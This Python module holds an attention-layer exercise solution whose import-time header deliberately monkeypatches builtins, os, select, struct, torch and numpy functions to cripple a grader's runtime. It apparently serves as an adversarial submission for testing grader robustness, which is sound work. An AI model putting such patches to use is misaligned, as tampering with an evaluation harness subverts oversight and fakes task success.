"""An honest part 2 that patches, at import, what the grader's runtime in its process uses.

Each patch breaks something only the runtime uses (its pipes, its message format, its
decoding of tensors, its backward pass, its seeding), not this module's own code: the
worker's runtime keeps its own references, so the honest work still gets its points.
"""

import builtins as _builtins
import os as _os
import select as _select
import struct as _struct

import numpy as _np
import torch as _torch

_real_len = _builtins.len


def _len(value):
    if isinstance(value, (bytes, bytearray, memoryview)):
        return 0
    return _real_len(value)


_builtins.len = _len
_os.write = lambda fd, data: 0
_os.readv = lambda fd, buffers: 0
_select.select = lambda *args: ([], [], [])
_struct.pack = lambda *args: b""
_torch.frombuffer = lambda *args, **kwargs: None
_torch.autograd.backward = lambda *args, **kwargs: None
_torch.manual_seed = lambda seed: None
_torch.is_grad_enabled = lambda: False
_np.ascontiguousarray = lambda value: None

import math

import torch
from torch import nn

from ._validate import check_mask, check_positive, check_probability, check_tensor


def scaled_dot_product_attention(
    query: torch.Tensor,
    key: torch.Tensor,
    value: torch.Tensor,
    mask: torch.Tensor | None = None,
    dropout_p: float = 0.0,
) -> tuple[torch.Tensor, torch.Tensor]:
    """``softmax(Q K^T / sqrt(d_k)) V`` with an optional boolean mask.

    Args:
        query: ``(..., L_q, d_k)``.
        key: ``(..., L_k, d_k)``.
        value: ``(..., L_k, d_v)``.
        mask: boolean, broadcastable to ``(..., L_q, L_k)``; True = may attend. A query whose
            keys are all masked gets zero weights and a zero output.
        dropout_p: probability of dropping each attention weight (the output uses the
            dropped-out weights, rescaled by ``1 / (1 - dropout_p)``).

    Returns:
        ``(output, weights)``: output ``(..., L_q, d_v)``, weights ``(..., L_q, L_k)`` (the
        softmax before dropout; each row sums to 1, or to 0 where every key is masked).
    """
    for name, tensor in (("query", query), ("key", key), ("value", value)):
        check_tensor(name, tensor, min_dim=2)
    if query.shape[-1] != key.shape[-1]:
        raise ValueError(
            f"query and key must share their last dimension d_k, got query {tuple(query.shape)} "
            f"and key {tuple(key.shape)}"
        )
    if key.shape[-2] != value.shape[-2]:
        raise ValueError(
            f"key and value must have the same length L_k, got key {tuple(key.shape)} "
            f"and value {tuple(value.shape)}"
        )
    try:
        batch = torch.broadcast_shapes(query.shape[:-2], key.shape[:-2], value.shape[:-2])
    except RuntimeError:
        raise ValueError(
            f"the leading dimensions of query {tuple(query.shape)}, key {tuple(key.shape)} and "
            f"value {tuple(value.shape)} do not broadcast"
        ) from None
    if mask is not None:
        check_mask(mask, torch.Size((*batch, query.shape[-2], key.shape[-2])))
    check_probability("dropout_p", dropout_p)
    ### BEGIN SOLUTION
    scores = query @ key.transpose(-2, -1) / math.sqrt(query.shape[-1])
    if mask is not None:
        ### HINT: masked_fill with -inf gives NaN for a row where every key is masked;
        ### HINT: the dtype's lowest finite value does not, and neither overflows in float16.
        scores = scores.masked_fill(~mask, torch.finfo(scores.dtype).min)
    weights = torch.softmax(scores, dim=-1)
    if mask is not None:
        weights = weights.masked_fill(~mask, 0.0)
    dropped = torch.nn.functional.dropout(weights, p=dropout_p) if dropout_p > 0 else weights
    return dropped @ value, weights
    ### END SOLUTION


class SelfAttention(nn.Module):
    """Single-head self-attention with learned query, key and value projections.

    Members ``q``, ``k``, ``v`` are ``nn.Linear(embed_dim, embed_dim)``.

    Shapes: ``x`` ``(B, T, embed_dim)`` -> output ``(B, T, embed_dim)``, weights ``(B, T, T)``.
    """

    def __init__(self, embed_dim: int) -> None:
        super().__init__()
        check_positive("embed_dim", embed_dim)
        self.embed_dim = embed_dim
        ### BEGIN SOLUTION
        self.q = nn.Linear(embed_dim, embed_dim)
        self.k = nn.Linear(embed_dim, embed_dim)
        self.v = nn.Linear(embed_dim, embed_dim)
        ### END SOLUTION

    def forward(
        self, x: torch.Tensor, mask: torch.Tensor | None = None
    ) -> tuple[torch.Tensor, torch.Tensor]:
        """Attend from every position of ``x`` to every position of ``x``.

        Args:
            x: ``(B, T, embed_dim)``.
            mask: boolean, broadcastable to ``(B, T, T)``; True = may attend.

        Returns:
            ``(output, weights)`` of shapes ``(B, T, embed_dim)`` and ``(B, T, T)``.
        """
        check_tensor("x", x, min_dim=3, max_dim=3)
        if x.shape[-1] != self.embed_dim:
            raise ValueError(
                f"x must have embed_dim={self.embed_dim} features, got shape {tuple(x.shape)}"
            )
        ### BEGIN SOLUTION
        return scaled_dot_product_attention(self.q(x), self.k(x), self.v(x), mask)
        ### END SOLUTION
